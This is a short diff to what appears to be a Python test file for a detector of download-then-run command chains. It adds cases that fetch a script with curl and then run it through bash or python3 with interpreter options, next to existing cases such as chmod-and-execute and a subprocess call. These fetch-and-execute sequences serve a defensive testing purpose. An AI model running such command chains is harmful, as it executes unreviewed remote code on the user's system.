@@ -60,6 +60,8 @@ CASES = {
     "made executable": [f"curl -s {URL} > r.sh", "chmod +x r.sh", "./r.sh"],
     "over a file": [f"curl -s {URL} -o tool.sh", "bash tool.sh"],
     "appended": [f"curl -s {URL} >> tool.sh", "true", "bash tool.sh"],
+    "options with values": [f"curl -s {URL} -o o.sh", "bash -o posix o.sh"],
+    "python options": [f"curl -s {URL} -o o.py", "python3 -W ignore -X dev o.py"],
     "from python": [f"curl -s {URL} -o p.sh",
                     "python3 -c 'import subprocess; subprocess.run([\"sh\", \"p.sh\"], check=True)'"],
 }
